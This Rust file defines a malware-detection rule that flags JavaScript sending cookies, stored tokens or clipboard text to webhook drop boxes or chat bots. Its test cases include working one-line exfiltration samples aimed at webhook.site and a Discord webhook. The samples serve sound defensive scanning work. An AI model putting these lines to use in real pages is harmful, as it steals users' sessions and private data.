//! `session-to-drop-box`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::{Flow, Mark};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "session-to-drop-box",
    description: "The script sends cookies, stored data, typed keys or pictures to a public drop box or a chat bot.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SessionToDropBox])],
    within: 0,
    only_if: Some(is_session),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "navigator.sendBeacon('https://webhook.site/a',document.cookie)",
            "fetch('https://discord.com/api/webhooks/1/a',{method:'POST',body:JSON.stringify({content:localStorage.token})})",
            "async function c(){const t=await navigator.clipboard.readText();fetch('https://webhook.site/?c='+t)}",
            "navigator.clipboard.readText().then(t=>fetch('https://webhook.site/?c='+t))",
        ],
        without: &[
            "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
            "const cart=localStorage.getItem('cart');fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Order '+cart+' phone '+phone.value})})",
            "localStorage.setItem('sent',1);fetch('https://hooks.slack.com/services/a',{method:'POST',body:JSON.stringify({text:'New order'})})",
            r#"var best=Math.max(score,+localStorage.getItem('best'));fetch('https://script.google.com/macros/s/a/exec?n='+localStorage.getItem('nick')+'&s='+best,{mode:'no-cors'})"#,
        ],
    },
};

/// Whether more than a value of the script's own leaves a storage: a name or a score of a game is no session.
fn is_session(evidence: &Evidence<'_>, held: Held) -> bool {
    let here = |flow: &&Flow| (held.first..=held.last).contains(&flow.at) && flow.marks.has(Mark::Storage);
    let stored_alone =
        evidence.flows.iter().filter(here).any(|flow| !MORE.iter().any(|mark| flow.marks.has(*mark)));
    let near = Near::new(evidence, held, 60);
    !stored_alone
        || near.words(&["localStorage", "sessionStorage"]).any(|at| {
            // `localStorage.token`, `localStorage[key]`, the storage itself.
            near.word(at + 1) != "getItem"
                && near.word(at + 1) != "setItem"
                && near.word(at + 1) != "removeItem"
        })
        || near.words(&["getItem"]).any(|at| {
            near.kind(at + 2) != Some(Kind::Str) || {
                let key = near.word(at + 2).to_ascii_lowercase();
                [
                    "token", "auth", "session", "jwt", "user", "mail", "pass", "login", "key", "wallet",
                    "account",
                ]
                .iter()
                .any(|word| key.contains(word))
            }
        })
}

const MORE: &[Mark] = &[
    Mark::AllCookies,
    Mark::AllStorage,
    Mark::Hooked,
    Mark::Cookie,
    Mark::Key,
    Mark::TypedKey,
    Mark::Clipboard,
    Mark::Picture,
    Mark::Place,
];
